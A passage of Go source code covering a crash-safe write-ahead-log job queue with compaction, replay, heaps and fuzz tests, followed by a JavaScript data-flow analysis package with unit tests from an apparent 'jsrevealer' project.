		live += int64(len(j.Payload)+len(j.Result)) + perJobOverhead
	}
	return live
}

// Compact folds the queue's live state into a fresh snapshot segment and
// deletes the older segments. Crash-safe at every step: the snapshot is
// written to a temp file and renamed into place, and its leading reset
// marker neutralizes any stale segment a crash leaves behind. Compaction
// runs automatically from the reaper; the export exists for tests and
// operational tooling.
func (q *Queue) Compact() error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	// Snapshot at the sequence after the active segment, then append
	// future records to a segment after that.
	snapSeq := q.seg.seq + 1
	if err := writeSnapshot(q.dir, snapSeq, q.jobs, q.orderedIDsLocked(), !q.opts.NoSync); err != nil {
		return err
	}
	if err := q.seg.close(); err != nil {
		return err
	}
	seg, err := openSegment(q.dir, snapSeq+1, !q.opts.NoSync)
	if err != nil {
		return err
	}
	q.seg = seg
	removeSegmentsBefore(q.dir, snapSeq)
	return nil
}

// orderedIDsLocked returns job ids in enqueue-sequence order, so a replayed
// snapshot preserves FIFO fairness within each priority class.
func (q *Queue) orderedIDsLocked() []string {
	ids := make([]string, 0, len(q.jobs))
	for id := range q.jobs {
		ids = append(ids, id)
	}
	// Sort by the in-memory sequence; the heaps re-derive ordering on
	// replay from restore-record order.
	sort.Slice(ids, func(a, b int) bool {
		return q.jobs[ids[a]].seq < q.jobs[ids[b]].seq
	})
	return ids
}
