package queue

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// Segment files are named NNNNNNNN.wal (zero-padded decimal sequence
// number) and replayed in sequence order. The active segment is the highest
// sequence; rotation closes it and starts the next. Compaction writes a
// snapshot segment (reset + restores) at the next sequence, after which
// every older segment is garbage.
const (
	segSuffix = ".wal"
	tmpSuffix = ".tmp"
)

func segName(seq uint64) string {
	return fmt.Sprintf("%08d%s", seq, segSuffix)
}

// parseSegName extracts the sequence from a segment filename.
func parseSegName(name string) (uint64, bool) {
	base, ok := strings.CutSuffix(name, segSuffix)
	if !ok {
		return 0, false
	}
	seq, err := strconv.ParseUint(base, 10, 64)
	if err != nil {
		return 0, false
	}
	return seq, true
}

// listSegments returns the directory's segment sequences in ascending
// order, deleting stale compaction temporaries (crashed mid-compaction)
// along the way.
func listSegments(dir string) ([]uint64, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var seqs []uint64
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		if strings.HasSuffix(e.Name(), tmpSuffix) {
			os.Remove(filepath.Join(dir, e.Name()))
			continue
		}
		if seq, ok := parseSegName(e.Name()); ok {
			seqs = append(seqs, seq)
		}
	}
	sort.Slice(seqs, func(i, j int) bool { return seqs[i] < seqs[j] })
	return seqs, nil
}

// segment is the active append target.
type segment struct {
	f    *os.File
	seq  uint64
	size int64
	sync bool
}

// openSegment opens (creating if needed) segment seq for appending.
func openSegment(dir string, seq uint64, sync bool) (*segment, error) {
	f, err := os.OpenFile(filepath.Join(dir, segName(seq)), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	return &segment{f: f, seq: seq, size: st.Size(), sync: sync}, nil
}

// append frames ev and writes it to the segment, fsyncing unless the queue
// runs with NoSync.
func (s *segment) append(ev walEvent) error {
	buf := appendRecord(nil, encodeEvent(ev))
	if _, err := s.f.Write(buf); err != nil {
		return fmt.Errorf("queue: append wal record: %w", err)
	}
	s.size += int64(len(buf))
	if s.sync {
		if err := s.f.Sync(); err != nil {
			return fmt.Errorf("queue: sync wal: %w", err)
		}
	}
	return nil
}

func (s *segment) close() error {
	if s.sync {
		s.f.Sync()
	}
	return s.f.Close()
}

// syncDir fsyncs a directory so renames and creates within it are durable.
func syncDir(dir string) {
	if d, err := os.Open(dir); err == nil {
		d.Sync()
		d.Close()
	}
}

// replayResult is what replaying the on-disk WAL yields: the rebuilt job
// index plus recovery accounting.
type replayResult struct {
	jobs    map[string]*Job
	order   []string // enqueue order of jobs, the FIFO tiebreak source
	nextSeq uint64   // sequence for the next (fresh) active segment
	// truncated counts segments whose tail was torn and cut back to the
	// last healthy record.
	truncated int
}

// replay reads every segment in seqs order and folds its events into a job
// index. A segment tail that fails to decode — short record, bad checksum,
// absurd length, or unparsable JSON — is truncated in place: every record
// before it survives, and replay continues with the next segment. This is
// the recovery-on-open contract: a kill -9 mid-append must never make the
// queue refuse to start.
func replay(dir string, seqs []uint64) (*replayResult, error) {
	res := &replayResult{jobs: make(map[string]*Job), nextSeq: 1}
	if len(seqs) > 0 {
		res.nextSeq = seqs[len(seqs)-1] + 1
	}
	for _, seq := range seqs {
		path := filepath.Join(dir, segName(seq))
		data, err := os.ReadFile(path)
		if err != nil {
			return nil, fmt.Errorf("queue: read segment %s: %w", path, err)
		}
		off := 0
		for off < len(data) {
			payload, n, derr := decodeRecord(data[off:])
			if derr != nil {
				// Torn or corrupt tail: keep everything before it.
				if terr := os.Truncate(path, int64(off)); terr != nil {
					return nil, fmt.Errorf("queue: truncate torn segment %s: %w", path, terr)
				}
				res.truncated++
				break
			}
			if !res.apply(payload) {
				// A record that frames correctly but does not decode as an
				// event is corruption past the checksum; treat it the same
				// as a torn tail.
				if terr := os.Truncate(path, int64(off)); terr != nil {
					return nil, fmt.Errorf("queue: truncate corrupt segment %s: %w", path, terr)
				}
				res.truncated++
				break
			}
			off += n
		}
	}
	return res, nil
}

// apply folds one decoded record into the index, reporting false when the
// payload is not a valid event. Events referencing unknown job ids are
// ignored — compaction legitimately drops jobs whose later events still sit
// in stale segments.
func (r *replayResult) apply(payload []byte) bool {
	ev, err := decodeEvent(payload)
	if err != nil {
		return false
	}
	switch ev.Op {
	case opEnqueue:
		if ev.ID == "" {
			return true // hostile or corrupt record; a real enqueue never has an empty id
		}
		r.jobs[ev.ID] = &Job{
			ID:         ev.ID,
			Priority:   ev.Priority,
			Payload:    ev.Payload,
			Trace:      ev.Trace,
			State:      StatePending,
			EnqueuedAt: fromNano(ev.At),
			NotBefore:  fromNano(ev.Deadline),
		}
		r.order = append(r.order, ev.ID)
	case opLease:
		if j, ok := r.jobs[ev.ID]; ok {
			j.State = StateLeased
			j.Owner = ev.Owner
			j.LeaseExpiry = fromNano(ev.Deadline)
		}
	case opExtend:
		if j, ok := r.jobs[ev.ID]; ok && j.State == StateLeased {
			j.LeaseExpiry = fromNano(ev.Deadline)
		}
	case opAck:
		if j, ok := r.jobs[ev.ID]; ok {
			j.State = StateDone
			j.Result = ev.Result
			j.Payload = nil // mirrors Ack: done jobs shed their work description
			j.DoneAt = fromNano(ev.At)
			j.Owner = ""
			j.LeaseExpiry = zeroTime
		}
	case opRetry:
		if j, ok := r.jobs[ev.ID]; ok {
			j.State = StatePending
			j.Attempt = ev.Attempt
			j.NotBefore = fromNano(ev.Deadline)
			j.LastErr = ev.Err
			j.Owner = ""
			j.LeaseExpiry = zeroTime
		}
	case opDead:
		if j, ok := r.jobs[ev.ID]; ok {
			j.State = StateDead
			j.Attempt = ev.Attempt
			j.LastErr = ev.Err
			j.DoneAt = fromNano(ev.At)
			j.Owner = ""
			j.LeaseExpiry = zeroTime
		}
	case opRemove:
		delete(r.jobs, ev.ID)
	case opReset:
		// Compaction snapshot boundary: everything replayed so far came
		// from segments older than the snapshot.
		r.jobs = make(map[string]*Job)
		r.order = r.order[:0]
	case opRestore:
		if ev.Job != nil && ev.Job.ID != "" && validState(ev.Job.State) {
			r.jobs[ev.Job.ID] = ev.Job.toJob()
			r.order = append(r.order, ev.Job.ID)
		}
	default:
		// Unknown op from a future version: ignore rather than refuse to
		// open, preserving forward compatibility of the file format.
	}
	return true
}

// validState reports whether s is one of the four real job states —
// restore records from a corrupt or hostile WAL must not smuggle impossible
// states into the index.
func validState(s State) bool {
	switch s {
	case StatePending, StateLeased, StateDone, StateDead:
		return true
	}
	return false
}

// decodeEvent parses one event payload.
func decodeEvent(payload []byte) (walEvent, error) {
	var ev walEvent
	err := json.Unmarshal(payload, &ev)
	return ev, err
}

// writeSnapshot writes a compacted snapshot segment at seq: a reset marker
// followed by one restore per job in ord order. It is written to a
// temporary file, fsynced, and renamed into place so a crash mid-compaction
// leaves either the old segments or a complete snapshot — never a partial
// one.
func writeSnapshot(dir string, seq uint64, jobs map[string]*Job, ord []string, sync bool) error {
	buf := appendRecord(nil, encodeEvent(walEvent{Op: opReset}))
	for _, id := range ord {
		j, ok := jobs[id]
		if !ok {
			continue
		}
		buf = appendRecord(buf, encodeEvent(walEvent{Op: opRestore, Job: j.toState()}))
	}
	tmp := filepath.Join(dir, segName(seq)+tmpSuffix)
	f, err := os.OpenFile(tmp, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.Write(buf); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if sync {
		if err := f.Sync(); err != nil {
			f.Close()
			os.Remove(tmp)
			return err
		}
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	if err := os.Rename(tmp, filepath.Join(dir, segName(seq))); err != nil {
		os.Remove(tmp)
		return err
	}
	if sync {
		syncDir(dir)
	}
	return nil
}

// removeSegmentsBefore deletes every segment older than keep. Failures are
// ignored: leftover stale segments are harmless (the snapshot's reset
// neutralizes them on replay) and the next compaction retries.
func removeSegmentsBefore(dir string, keep uint64) {
	seqs, err := listSegments(dir)
	if err != nil {
		return
	}
	removed := false
	for _, seq := range seqs {
		if seq < keep {
			os.Remove(filepath.Join(dir, segName(seq)))
			removed = true
		}
	}
	if removed {
		syncDir(dir)
	}
}

// totalSegmentBytes sums the on-disk size of every segment.
func totalSegmentBytes(dir string) int64 {
	seqs, err := listSegments(dir)
	if err != nil {
		return 0
	}
	var total int64
	for _, seq := range seqs {
		if st, err := os.Stat(filepath.Join(dir, segName(seq))); err == nil {
			total += st.Size()
		}
	}
	return total
}
