package queue

// Two small intrusive binary heaps index pending jobs: readyHeap orders
// eligible jobs by (priority desc, enqueue sequence asc) — strict priority
// with FIFO inside a class — and delayHeap orders backoff-delayed jobs by
// their NotBefore time so promotion is a peek at the root. Hand-rolled
// rather than container/heap to keep per-operation allocations at zero and
// the index fields (readyIx/delayIx) updated in place.

// readyHeap holds eligible pending jobs, max-priority at the root.
type readyHeap []*Job

// Len reports the heap size.
func (h readyHeap) Len() int { return len(h) }

func (h readyHeap) before(a, b *Job) bool {
	if a.Priority != b.Priority {
		return a.Priority > b.Priority
	}
	return a.seq < b.seq
}

func (h *readyHeap) push(j *Job) {
	*h = append(*h, j)
	j.readyIx = len(*h) - 1
	h.up(j.readyIx)
}

func (h *readyHeap) pop() *Job {
	old := *h
	n := len(old)
	top := old[0]
	old[0] = old[n-1]
	old[0].readyIx = 0
	old[n-1] = nil
	*h = old[:n-1]
	if len(*h) > 0 {
		h.down(0)
	}
	top.readyIx = -1
	return top
}

func (h readyHeap) up(i int) {
	for i > 0 {
		parent := (i - 1) / 2
		if !h.before(h[i], h[parent]) {
			return
		}
		h.swap(i, parent)
		i = parent
	}
}

func (h readyHeap) down(i int) {
	n := len(h)
	for {
		l, r := 2*i+1, 2*i+2
		best := i
		if l < n && h.before(h[l], h[best]) {
			best = l
		}
		if r < n && h.before(h[r], h[best]) {
			best = r
		}
		if best == i {
			return
		}
		h.swap(i, best)
		i = best
	}
}

func (h readyHeap) swap(i, j int) {
	h[i], h[j] = h[j], h[i]
	h[i].readyIx = i
	h[j].readyIx = j
}

// delayHeap holds backoff-delayed pending jobs, earliest NotBefore at the
// root.
type delayHeap []*Job

// Len reports the heap size.
func (h delayHeap) Len() int { return len(h) }

func (h delayHeap) before(a, b *Job) bool {
	if !a.NotBefore.Equal(b.NotBefore) {
		return a.NotBefore.Before(b.NotBefore)
	}
	return a.seq < b.seq
}

func (h *delayHeap) push(j *Job) {
	*h = append(*h, j)
	j.delayIx = len(*h) - 1
	h.up(j.delayIx)
}

func (h *delayHeap) pop() *Job {
	old := *h
	n := len(old)
	top := old[0]
	old[0] = old[n-1]
	old[0].delayIx = 0
	old[n-1] = nil
	*h = old[:n-1]
	if len(*h) > 0 {
		h.down(0)
	}
	top.delayIx = -1
	return top
}

func (h delayHeap) up(i int) {
	for i > 0 {
		parent := (i - 1) / 2
		if !h.before(h[i], h[parent]) {
			return
		}
		h.swap(i, parent)
		i = parent
	}
}

func (h delayHeap) down(i int) {
	n := len(h)
	for {
		l, r := 2*i+1, 2*i+2
		best := i
		if l < n && h.before(h[l], h[best]) {
			best = l
		}
		if r < n && h.before(h[r], h[best]) {
			best = r
		}
		if best == i {
			return
		}
		h.swap(i, best)
		i = best
	}
}

func (h delayHeap) swap(i, j int) {
	h[i], h[j] = h[j], h[i]
	h[i].delayIx = i
	h[j].delayIx = j
}
