package queue

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
)

// FuzzDecodeRecord hammers the WAL record decoder with arbitrary bytes:
// whatever the input — truncated frames, flipped bits, hostile length
// prefixes — decoding must terminate without panicking, and a full decode
// loop over the input must always make progress or stop.
func FuzzDecodeRecord(f *testing.F) {
	f.Add([]byte{})
	f.Add(appendRecord(nil, nil))
	f.Add(appendRecord(nil, []byte("payload")))
	f.Add(appendRecord(appendRecord(nil, []byte("a")), []byte("b")))
	f.Add([]byte{0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0})
	f.Add(bytes.Repeat([]byte{0x00}, 64))
	corrupt := appendRecord(nil, []byte("healthy record"))
	corrupt[recordHeaderLen] ^= 0x01
	f.Add(corrupt)

	f.Fuzz(func(t *testing.T, data []byte) {
		off := 0
		for off < len(data) {
			payload, n, err := decodeRecord(data[off:])
			if err != nil {
				// Any failure ends the stream — recovery truncates here.
				break
			}
			if n <= 0 {
				t.Fatalf("decode consumed %d bytes without error: infinite loop", n)
			}
			if len(payload) > n {
				t.Fatalf("payload %d bytes from a %d-byte record", len(payload), n)
			}
			// A healthy frame round-trips bit-identically.
			re := appendRecord(nil, payload)
			if !bytes.Equal(re, data[off:off+n]) {
				t.Fatalf("record at %d does not round-trip", off)
			}
			off += n
		}
	})
}

// FuzzReplaySegment feeds arbitrary bytes to the full segment replay path
// (framing + event decoding + state folding): opening a queue over any
// byte soup must neither panic nor loop, only recover what decodes.
func FuzzReplaySegment(f *testing.F) {
	f.Add([]byte{})
	f.Add(appendRecord(nil, encodeEvent(walEvent{Op: opEnqueue, ID: "j", Payload: []byte("p")})))
	seed := appendRecord(nil, encodeEvent(walEvent{Op: opEnqueue, ID: "j"}))
	seed = appendRecord(seed, encodeEvent(walEvent{Op: opLease, ID: "j", Owner: "w"}))
	seed = appendRecord(seed, encodeEvent(walEvent{Op: opAck, ID: "j", Result: []byte("r")}))
	f.Add(seed)
	f.Add(appendRecord(nil, []byte(`{"op":"snapshot-from-the-future"}`)))
	f.Add(appendRecord(nil, []byte(`not even json`)))

	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, segName(1)), data, 0o644); err != nil {
			t.Skip()
		}
		rep, err := replay(dir, []uint64{1})
		if err != nil {
			// replay only errors on filesystem failures, never on content.
			t.Fatalf("replay failed on content: %v", err)
		}
		// Whatever survived must be internally consistent.
		for id, j := range rep.jobs {
			if j.ID != id {
				t.Fatalf("job indexed under %q carries id %q", id, j.ID)
			}
			switch j.State {
			case StatePending, StateLeased, StateDone, StateDead:
			default:
				t.Fatalf("job %q in impossible state %q", id, j.State)
			}
		}
	})
}
