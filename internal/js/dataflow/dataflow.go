// Package dataflow computes the "enhanced AST" of the JSRevealer paper:
// the syntax tree annotated with data-dependency edges between leaves that
// refer to the same variable, where a later statement reads data defined by
// an earlier one.
//
// The paper's construction (Section III-B) adds a data dependency edge
// between statements that contain the same variable. Leaves participating in
// at least one dependency keep their concrete value in extracted paths; all
// other identifier/literal leaves are abstracted to type indicators such as
// "@var_str" or "@var_int".
package dataflow

import (
	"sort"

	"jsrevealer/internal/js/ast"
)

// Occurrence is one appearance of a variable in the program.
type Occurrence struct {
	// Node is the identifier leaf.
	Node *ast.Identifier
	// Stmt is the nearest enclosing statement.
	Stmt ast.Statement
	// Write reports whether this occurrence defines (writes) the variable.
	Write bool
	// Order is the traversal index of the occurrence, used to orient edges
	// from earlier definitions to later uses.
	Order int
}

// Edge is a data-dependency edge between two identifier leaves: a definition
// and a later use of the same variable.
type Edge struct {
	Def  *Occurrence
	Use  *Occurrence
	Name string
}

// Info is the data-flow annotation of a program: its dependency edges and
// the set of leaves that participate in at least one edge.
type Info struct {
	Edges []Edge
	// Linked marks identifier nodes that take part in a data dependency.
	// Keyed by node pointer.
	Linked map[*ast.Identifier]bool
	// Occurrences lists every variable occurrence in traversal order.
	Occurrences []*Occurrence
}

// HasDependency reports whether the identifier leaf participates in a
// data-dependency edge.
func (i *Info) HasDependency(id *ast.Identifier) bool { return i.Linked[id] }

// Analyze computes data-flow information for the program.
//
// The analysis is flow-insensitive within a scope, matching the paper's
// lightweight construction: every write to a name creates dependencies to
// all later reads of the same name within the same function scope (or the
// top level). Function parameters count as writes at function entry.
func Analyze(prog *ast.Program) *Info {
	a := &analyzer{
		info: &Info{Linked: make(map[*ast.Identifier]bool)},
	}
	a.scopeStack = append(a.scopeStack, newScope())
	a.stmts(prog.Body)
	a.closeScope()
	return a.info
}

type scope struct {
	// occ maps variable name to its occurrences within this scope.
	occ map[string][]*Occurrence
}

func newScope() *scope { return &scope{occ: make(map[string][]*Occurrence)} }

// maxWalkDepth bounds AST traversal depth; nodes nested deeper than any
// parseable program simply contribute no occurrences instead of overflowing
// the stack on adversarially constructed trees.
const maxWalkDepth = 4096

type analyzer struct {
	info       *Info
	scopeStack []*scope
	curStmt    ast.Statement
	order      int
	depth      int
}

func (a *analyzer) scope() *scope { return a.scopeStack[len(a.scopeStack)-1] }

// record registers an occurrence of name in the current scope.
func (a *analyzer) record(id *ast.Identifier, write bool) {
	occ := &Occurrence{
		Node:  id,
		Stmt:  a.curStmt,
		Write: write,
		Order: a.order,
	}
	a.order++
	s := a.scope()
	s.occ[id.Name] = append(s.occ[id.Name], occ)
	a.info.Occurrences = append(a.info.Occurrences, occ)
}

// Materializing every def→use pair is quadratic in a variable's occurrence
// count, which lets a single machine-generated file (one name written tens of
// thousands of times) stall the analysis for minutes. Linked is therefore
// computed exactly with linear passes, while the explicit Edge list — needed
// only by PDG construction and diagnostics — is capped per variable.
const (
	// maxEdgesPerVar caps emitted Edge values per (scope, variable).
	maxEdgesPerVar = 4096
	// maxEdgeScanPerVar caps pair-scan work per (scope, variable) so a
	// skip-heavy occurrence pattern cannot reintroduce the quadratic cost.
	maxEdgeScanPerVar = 1 << 16
)

// closeScope resolves def→use edges for the scope being popped.
func (a *analyzer) closeScope() {
	s := a.scope()
	a.scopeStack = a.scopeStack[:len(a.scopeStack)-1]
	for name, occs := range s.occ {
		a.markLinked(occs)
		a.emitEdges(name, occs)
	}
}

// markLinked sets Linked for every occurrence that participates in some
// def→use dependency, in O(occurrences): a read is linked iff an earlier
// write exists in a different statement, a write iff a later read does. Each
// direction only needs a summary of the statements seen so far — the first
// one plus whether a second distinct one appeared.
func (a *analyzer) markLinked(occs []*Occurrence) {
	var wStmt ast.Statement
	wSeen, wMulti := false, false
	for _, o := range occs {
		if o.Write {
			if !wSeen {
				wSeen, wStmt = true, o.Stmt
			} else if o.Stmt != wStmt {
				wMulti = true
			}
		} else if wSeen && (wMulti || o.Stmt != wStmt) {
			a.info.Linked[o.Node] = true
		}
	}
	var rStmt ast.Statement
	rSeen, rMulti := false, false
	for i := len(occs) - 1; i >= 0; i-- {
		o := occs[i]
		if !o.Write {
			if !rSeen {
				rSeen, rStmt = true, o.Stmt
			} else if o.Stmt != rStmt {
				rMulti = true
			}
		} else if rSeen && (rMulti || o.Stmt != rStmt) {
			a.info.Linked[o.Node] = true
		}
	}
}

// emitEdges materializes def→use Edge values, earliest definitions first,
// bounded by maxEdgesPerVar / maxEdgeScanPerVar.
func (a *analyzer) emitEdges(name string, occs []*Occurrence) {
	var reads []*Occurrence
	for _, o := range occs {
		if !o.Write {
			reads = append(reads, o)
		}
	}
	if len(reads) == 0 {
		return
	}
	emitted, scanned := 0, 0
	for _, def := range occs {
		if !def.Write {
			continue
		}
		// Occurrences are recorded in strictly increasing Order, so the
		// reads slice is sorted: jump straight to the first later read.
		lo := sort.Search(len(reads), func(i int) bool { return reads[i].Order > def.Order })
		for _, use := range reads[lo:] {
			scanned++
			if scanned > maxEdgeScanPerVar {
				return
			}
			if use.Stmt == def.Stmt {
				continue
			}
			a.info.Edges = append(a.info.Edges, Edge{Def: def, Use: use, Name: name})
			emitted++
			if emitted >= maxEdgesPerVar {
				return
			}
		}
	}
}

func (a *analyzer) stmts(list []ast.Statement) {
	for _, s := range list {
		a.stmt(s)
	}
}

func (a *analyzer) stmt(s ast.Statement) {
	if s == nil || a.depth >= maxWalkDepth {
		return
	}
	a.depth++
	defer func() { a.depth-- }()
	prev := a.curStmt
	a.curStmt = s
	defer func() { a.curStmt = prev }()

	switch n := s.(type) {
	case *ast.ExpressionStatement:
		a.expr(n.Expression, false)
	case *ast.BlockStatement:
		a.stmts(n.Body)
	case *ast.VariableDeclaration:
		a.varDecl(n)
	case *ast.FunctionDeclaration:
		a.record(n.ID, true)
		a.function(n.Params, n.Body)
	case *ast.ReturnStatement:
		if n.Argument != nil {
			a.expr(n.Argument, false)
		}
	case *ast.IfStatement:
		a.expr(n.Test, false)
		a.stmt(n.Consequent)
		a.stmt(n.Alternate)
	case *ast.ForStatement:
		switch init := n.Init.(type) {
		case *ast.VariableDeclaration:
			a.varDecl(init)
		case ast.Expression:
			a.expr(init, false)
		}
		if n.Test != nil {
			a.expr(n.Test, false)
		}
		if n.Update != nil {
			a.expr(n.Update, false)
		}
		a.stmt(n.Body)
	case *ast.ForInStatement:
		switch left := n.Left.(type) {
		case *ast.VariableDeclaration:
			a.varDecl(left)
		case ast.Expression:
			a.expr(left, true)
		}
		a.expr(n.Right, false)
		a.stmt(n.Body)
	case *ast.WhileStatement:
		a.expr(n.Test, false)
		a.stmt(n.Body)
	case *ast.DoWhileStatement:
		a.stmt(n.Body)
		a.expr(n.Test, false)
	case *ast.LabeledStatement:
		a.stmt(n.Body)
	case *ast.SwitchStatement:
		a.expr(n.Discriminant, false)
		for _, c := range n.Cases {
			if c.Test != nil {
				a.expr(c.Test, false)
			}
			a.stmts(c.Consequent)
		}
	case *ast.ThrowStatement:
		a.expr(n.Argument, false)
	case *ast.TryStatement:
		a.stmt(n.Block)
		if n.Handler != nil {
			a.record(n.Handler.Param, true)
			a.stmt(n.Handler.Body)
		}
		if n.Finalizer != nil {
			a.stmt(n.Finalizer)
		}
	case *ast.WithStatement:
		a.expr(n.Object, false)
		a.stmt(n.Body)
	case *ast.BreakStatement, *ast.ContinueStatement,
		*ast.EmptyStatement, *ast.DebuggerStatement:
		// no variable occurrences
	}
}

func (a *analyzer) varDecl(d *ast.VariableDeclaration) {
	for _, dec := range d.Declarations {
		if dec.Init != nil {
			a.expr(dec.Init, false)
		}
		a.record(dec.ID, true)
	}
}

// function analyzes a function body in a fresh scope, with parameters bound
// as writes at entry.
func (a *analyzer) function(params []*ast.Identifier, body *ast.BlockStatement) {
	a.scopeStack = append(a.scopeStack, newScope())
	for _, p := range params {
		a.record(p, true)
	}
	a.stmts(body.Body)
	a.closeScope()
}

// expr walks an expression; write marks the outermost identifier as a
// definition (assignment target).
func (a *analyzer) expr(e ast.Expression, write bool) {
	if e == nil || a.depth >= maxWalkDepth {
		return
	}
	a.depth++
	defer func() { a.depth-- }()
	switch n := e.(type) {
	case *ast.Identifier:
		a.record(n, write)
	case *ast.Literal, *ast.ThisExpression:
		// no occurrences
	case *ast.ArrayExpression:
		for _, el := range n.Elements {
			if el != nil {
				a.expr(el, false)
			}
		}
	case *ast.ObjectExpression:
		for _, p := range n.Properties {
			// Keys are property names, not variable references.
			a.expr(p.Value, false)
		}
	case *ast.FunctionExpression:
		if n.ID != nil {
			a.record(n.ID, true)
		}
		a.function(n.Params, n.Body)
	case *ast.UnaryExpression:
		a.expr(n.Argument, false)
	case *ast.UpdateExpression:
		// x++ both reads and writes; record as write so later reads link.
		a.expr(n.Argument, true)
	case *ast.BinaryExpression:
		a.expr(n.Left, false)
		a.expr(n.Right, false)
	case *ast.LogicalExpression:
		a.expr(n.Left, false)
		a.expr(n.Right, false)
	case *ast.AssignmentExpression:
		a.expr(n.Right, false)
		a.expr(n.Left, true)
	case *ast.ConditionalExpression:
		a.expr(n.Test, false)
		a.expr(n.Consequent, false)
		a.expr(n.Alternate, false)
	case *ast.CallExpression:
		a.expr(n.Callee, false)
		for _, arg := range n.Arguments {
			a.expr(arg, false)
		}
	case *ast.NewExpression:
		a.expr(n.Callee, false)
		for _, arg := range n.Arguments {
			a.expr(arg, false)
		}
	case *ast.MemberExpression:
		// obj.prop: obj is a variable reference; the write (if any) lands on
		// the property, so the base object is still a read. Non-computed
		// property names are not variable references.
		a.expr(n.Object, false)
		if n.Computed {
			a.expr(n.Property, false)
		}
	case *ast.SequenceExpression:
		for _, x := range n.Expressions {
			a.expr(x, false)
		}
	}
}
