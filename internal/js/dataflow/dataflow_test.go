package dataflow

import (
	"testing"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

func analyze(t *testing.T, src string) *Info {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return Analyze(prog)
}

// edgeNames collects the variable names of def->use edges.
func edgeNames(info *Info) map[string]int {
	out := make(map[string]int)
	for _, e := range info.Edges {
		out[e.Name]++
	}
	return out
}

func TestSimpleDefUse(t *testing.T) {
	info := analyze(t, "var x = 1;\nvar y = x + 2;")
	names := edgeNames(info)
	if names["x"] == 0 {
		t.Fatalf("no def-use edge for x: %v", names)
	}
	// y is defined but never used: no edge.
	if names["y"] != 0 {
		t.Errorf("unexpected edge for y")
	}
}

func TestNoEdgeWithinSameStatement(t *testing.T) {
	info := analyze(t, "var x = 1; x = x + 1;")
	for _, e := range info.Edges {
		if e.Def.Stmt == e.Use.Stmt {
			t.Errorf("edge within one statement for %q", e.Name)
		}
	}
}

func TestEdgeDirection(t *testing.T) {
	info := analyze(t, "var a = 1;\nuse(a);")
	for _, e := range info.Edges {
		if e.Def.Order >= e.Use.Order {
			t.Errorf("edge %q goes backwards", e.Name)
		}
		if !e.Def.Write || e.Use.Write {
			t.Errorf("edge %q not def->use", e.Name)
		}
	}
}

func TestFunctionScopeIsolation(t *testing.T) {
	// The x inside f is a different variable from the outer x.
	info := analyze(t, `
var x = 1;
function f() {
  var x = 2;
  return x;
}
`)
	// Edges exist for the inner x (def in decl, use in return) but not from
	// outer x to the inner use.
	inner := 0
	for _, e := range info.Edges {
		if e.Name == "x" {
			inner++
		}
	}
	if inner != 1 {
		t.Errorf("x edges = %d, want exactly 1 (inner scope only)", inner)
	}
}

func TestParamsAreDefs(t *testing.T) {
	info := analyze(t, "function f(p) { return p + 1; }")
	if edgeNames(info)["p"] == 0 {
		t.Error("parameter def not linked to body use")
	}
}

func TestCatchParamIsDef(t *testing.T) {
	info := analyze(t, "try { go(); } catch (e) { log(e); }")
	if edgeNames(info)["e"] == 0 {
		t.Error("catch parameter not linked")
	}
}

func TestUpdateExpressionIsWrite(t *testing.T) {
	info := analyze(t, "var i = 0;\ni++;\nuse(i);")
	// i has defs at declaration and i++, and a use at use(i): at least two
	// edges terminate at the use.
	usesLinked := 0
	for _, e := range info.Edges {
		if e.Name == "i" {
			usesLinked++
		}
	}
	if usesLinked < 2 {
		t.Errorf("i edges = %d, want >= 2", usesLinked)
	}
}

func TestMemberObjectIsUse(t *testing.T) {
	info := analyze(t, "var o = {};\no.field = 1;")
	if edgeNames(info)["o"] == 0 {
		t.Error("o.field should use o")
	}
}

func TestPropertyNamesAreNotVariables(t *testing.T) {
	info := analyze(t, "var length = 1;\nvar n = arr.length;")
	// The .length property must not link to the variable `length`.
	for _, e := range info.Edges {
		if e.Name == "length" {
			t.Errorf("property name linked as variable: %+v", e)
		}
	}
}

func TestHasDependencyMarksBothEnds(t *testing.T) {
	prog, err := parser.Parse("var v = 1;\nsend(v);")
	if err != nil {
		t.Fatal(err)
	}
	info := Analyze(prog)
	linked := 0
	ast.Walk(prog, func(n ast.Node) bool {
		if id, ok := n.(*ast.Identifier); ok && info.HasDependency(id) {
			linked++
		}
		return true
	})
	if linked != 2 {
		t.Errorf("linked identifiers = %d, want 2 (def and use of v)", linked)
	}
}

func TestForLoopVariable(t *testing.T) {
	info := analyze(t, "for (var i = 0; i < 3; i++) { use(i); }")
	if edgeNames(info)["i"] == 0 {
		t.Error("loop variable not linked")
	}
}

func TestOccurrencesRecorded(t *testing.T) {
	info := analyze(t, "var a = b;")
	if len(info.Occurrences) != 2 {
		t.Errorf("occurrences = %d, want 2 (b use, a def)", len(info.Occurrences))
	}
}

func TestFunctionExpressionScope(t *testing.T) {
	info := analyze(t, `
var cb = function worker(n) {
  var acc = n * 2;
  return acc;
};
run(cb);
`)
	names := edgeNames(info)
	if names["n"] == 0 || names["acc"] == 0 {
		t.Errorf("inner function edges missing: %v", names)
	}
	if names["cb"] == 0 {
		t.Errorf("cb not linked to run(cb): %v", names)
	}
}
