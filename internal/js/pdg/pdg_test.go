package pdg

import (
	"testing"

	"jsrevealer/internal/js/parser"
)

func build(t *testing.T, src string) *Graph {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return Build(prog)
}

func countEdges(g *Graph, kind EdgeKind) int {
	n := 0
	for _, e := range g.Edges {
		if e.Kind == kind {
			n++
		}
	}
	return n
}

